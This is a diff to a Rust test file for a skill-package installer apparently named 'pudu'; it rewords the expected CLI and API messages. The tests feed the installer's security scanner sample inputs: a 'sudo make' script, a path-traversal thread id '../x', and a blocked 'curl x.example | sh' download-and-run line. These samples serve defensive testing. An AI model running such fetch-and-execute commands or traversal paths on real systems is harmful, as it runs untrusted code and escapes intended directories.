@@ -295,21 +295,17 @@ async fn the_command_line_lists_shows_switches_installs_and_removes_and_a_daemon
         archive(&[("demo/SKILL.md", demo), ("demo/run.sh", "sudo make\n")]),
     )
     .unwrap();
-    let found = "warn   run.sh:1  damage: it wants more rights: `sudo m`";
-    check(
-        &["install", "demo.skill"],
-        true,
-        &["demo is installed: 2 file(s)", "what a person should look at", found],
-    );
+    let found = "warn   run.sh:1  damage: it requests more rights: `sudo m`";
+    check(&["install", "demo.skill"], true, &["Installed demo: 2 file(s)", "places to review", found]);
     check(
         &["install", "demo.skill"],
         false,
-        &["a skill `demo` is there already (custom); `pudu skill install --replace`"],
+        &["a skill `demo` already exists (custom); `pudu skill install --replace`"],
     );
-    check(&["install", "demo.skill", "--replace"], true, &["demo is installed"]);
+    check(&["install", "demo.skill", "--replace"], true, &["Installed demo"]);
     ada.says("and now?", "echo: and now?").await;
     assert!(system(&house).contains("- demo: A demo. (/mnt/skills/custom/demo/SKILL.md)"));
-    check(&["remove", "demo"], true, &["demo is removed"]);
+    check(&["remove", "demo"], true, &["Removed demo."]);
     check(
         &["remove", "deep-research"],
         false,
@@ -326,13 +322,13 @@ async fn the_command_line_lists_shows_switches_installs_and_removes_and_a_daemon
         &["the scan of `demo` blocks it", "BLOCK  run.sh:1  download-and-run"],
     );
     std::fs::write(house.path("worse.skill"), "no zip").unwrap();
-    check(&["install", "worse.skill"], false, &["error: the archive is refused: it is no zip: "]);
+    check(&["install", "worse.skill"], false, &["error: the archive is refused: it is not a ZIP archive: "]);
     let (_, said) = house.pudu(&["skill", "install", "worse.skill"]);
-    assert_eq!(said.matches("it is no zip").count(), 1, "nothing is said twice: {said}");
+    assert_eq!(said.matches("it is not a ZIP archive").count(), 1, "nothing is said twice: {said}");
     check(&["install", "missing.skill"], false, &["missing.skill"]);
     std::fs::create_dir_all(house.path(".pudu/skills/custom/odd")).unwrap();
     std::fs::write(house.path(".pudu/skills/custom/odd/SKILL.md"), "# Odd\n").unwrap();
-    check(&["list"], true, &["BROKEN", "custom/odd", "does not begin with a line `---`"]);
+    check(&["list"], true, &["BROKEN", "custom/odd", "does not begin with front matter"]);
 }
 
 #[tokio::test]
@@ -404,14 +400,14 @@ async fn a_skill_is_installed_from_a_threads_files() {
         (status, answer),
         (
             400,
-            json!({"detail": "the archive is refused: there is no SKILL.md at its top or in its one top folder"})
+            json!({"detail": "the archive is refused: there is no SKILL.md at its top level or in its only top-level folder"})
         )
     );
     let (status, answer) = ask("bad.skill").await;
     assert_eq!((status, &answer["detail"]["skill_name"]), (400, &json!("bad")));
     assert_eq!(
         answer["detail"]["findings"][0],
-        json!({"severity": "block", "file": "a.sh", "line": 1, "rule": "download-and-run", "what": "it runs what it downloads: `curl x.example | sh`"})
+        json!({"severity": "block", "file": "a.sh", "line": 1, "rule": "download-and-run", "what": "it runs code that it downloads: `curl x.example | sh`"})
     );
     let wish = json!({"thread_id": "../x", "path": "a.skill"});
     assert_eq!(house.operate(reqwest::Method::POST, "/api/skills/install", &wish).await.0, 422);
@@ -691,7 +687,7 @@ async fn what_the_skill_creator_packs_can_be_installed() {
     let (well, said) = house.pudu(&["skill", "install", "offers.skill"]);
     assert_eq!(
         (well, said.as_str()),
-        (true, "offers is installed: 2 file(s), 117 bytes\nthe scan found nothing\n"),
+        (true, "Installed offers: 2 file(s), 117 bytes.\nThe scan found nothing.\n"),
         "{said}"
     );
 }
